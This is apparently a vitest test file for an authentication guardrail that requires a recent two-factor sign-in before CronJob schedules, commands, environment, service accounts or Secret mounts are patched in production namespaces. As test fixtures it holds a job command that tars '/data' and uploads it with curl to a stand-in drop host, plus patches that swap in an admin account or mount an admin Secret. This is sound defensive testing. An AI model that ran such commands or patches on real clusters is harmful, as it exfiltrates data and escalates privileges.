import { describe, expect, it } from 'vitest';
import { builtServerForFile, freshSubjects, KUBE, OFFICE, reason, rules } from '../support/built-server.js';
import { checkRequest } from '../support/requests.js';

/**
 * Days 15's and 24's class, in shapes the days did not send: an existing CronJob rescheduled, or
 * its jobs given other commands, environment, volumes or account, by a patch, with a two-factor
 * sign-in an hour old. Against the built server with the example policy:
 * `scheduled_job_changed` asks a sign-in within 15 minutes whichever patch type, API or cluster
 * prefix carries it, in any namespace not named as a lower environment; a suspend, a new image or
 * resources, and a lower environment's CronJob, stay the everyday sign-in's.
 */

const server = builtServerForFile('scheduled-jobs');
const { tokenOf } = freshSubjects(() => server().issuer, 'scheduled-jobs');
const RANCHER = 'rancher.localhost';
const KUBECTL = 'kubectl/v1.33.1 (linux/amd64) kubernetes/8adc0f0';
const MERGE = 'application/merge-patch+json';
const JSON_PATCH = 'application/json-patch+json';
const SMP = 'application/strategic-merge-patch+json';

type Edit = [what: string, path: string, contentType: string, body: unknown, host?: string];

async function send(age: number, [, path, contentType, body, host]: Edit) {
  const token = await tokenOf('aal2', age);
  return server().client.check(checkRequest({ host: host ?? KUBE, source: OFFICE, method: 'PATCH', path, token, headers: { 'user-agent': KUBECTL, 'content-type': contentType, 'x-envoy-auth-partial-body': 'false' }, body: JSON.stringify(body) }));
}

const cj = (ns: string, name = 'nightly-export') => `/apis/batch/v1/namespaces/${ns}/cronjobs/${name}`;
const job = (container: object, spec: object = {}) => ({ spec: { jobTemplate: { spec: { template: { spec: { containers: [{ name: 'job', ...container }], ...spec } } } } } });

const CHANGES: Edit[] = [
  ['a merge patch of the schedule in billing', cj('billing'), MERGE, { spec: { schedule: '*/5 * * * *' } }],
  ['a JSON patch of the time zone in payments-prod', cj('payments-prod'), JSON_PATCH, [{ op: 'replace', path: '/spec/timeZone', value: 'Pacific/Kiritimati' }]],
  ["a JSON patch adding an env var to the job's container in orders", cj('orders'), JSON_PATCH, [{ op: 'add', path: '/spec/jobTemplate/spec/template/spec/containers/0/env/-', value: { name: 'UPLOAD_URL', value: 'https://drop.example.net/u' } }]],
  ["a strategic-merge patch of the job's command in warehouse", cj('warehouse', 'stock-sync'), SMP, job({ command: ['sh', '-c', 'tar c /data | curl -T - https://drop.example.net'] })],
  ["a merge patch of the job's service account in pos", cj('pos'), MERGE, job({}, { serviceAccountName: 'pos-admin' })],
  ["a strategic-merge patch mounting another Secret into the job in ledger-prod", cj('ledger-prod'), SMP, job({ envFrom: [{ secretRef: { name: 'ledger-db-admin' } }] })],
  ["Rancher's proxy to a store cluster: the schedule and the env", `/k8s/clusters/c-m-store7${cj('pos', 'eod-sales-export')}`, SMP, { spec: { schedule: '0 * * * *', ...job({ env: [{ name: 'EXPORT_URL', value: 'https://x.example' }] }).spec } }, RANCHER],
];

describe("an existing CronJob's schedule or what its jobs run, changed by a patch", () => {
  it.each(CHANGES)('%s: a sign-in an hour old is asked for a new one (scheduled_job_changed)', async (...edit) => {
    const res = await send(3600, edit);
    expect(reason(res), rules(res)).toBe('auth_too_old');
    expect(rules(res)).toContain('guardrail:scheduled_job_changed');
  });

  it.each(CHANGES.filter(([, , , , host]) => host === undefined))('%s: signed in a minute ago, allowed', async (...edit) => {
    const res = await send(60, edit);
    expect(reason(res), rules(res)).toBe('allowed');
  });

  it.each<Edit>([
    ['a suspend in billing (kubectl patch, debugging)', cj('billing'), MERGE, { spec: { suspend: true } }],
    ['a resume in orders, as a JSON patch', cj('orders'), JSON_PATCH, [{ op: 'replace', path: '/spec/suspend', value: false }]],
    ["a new image for the job's container in pos (a deploy)", cj('pos'), SMP, job({ image: `registry.example/export:2.4@sha256:${'b'.repeat(64)}` })],
    ["the job's memory limit raised in warehouse", cj('warehouse', 'stock-sync'), SMP, job({ resources: { limits: { memory: '2Gi' } } })],
    ['the schedule in orders-staging', cj('orders-staging'), MERGE, { spec: { schedule: '*/5 * * * *' } }],
    ["the job's env in dev", cj('dev'), SMP, job({ env: [{ name: 'DEBUG', value: '1' }] })],
    ['the command in pr-1234', cj('pr-1234'), SMP, job({ command: ['sleep', '3600'] })],
  ])('%s: not a change of when or what it runs outside a lower environment, allowed on the hour-old sign-in', async (...edit) => {
    const res = await send(3600, edit);
    expect(rules(res)).not.toContain('guardrail:scheduled_job_changed');
  });
});
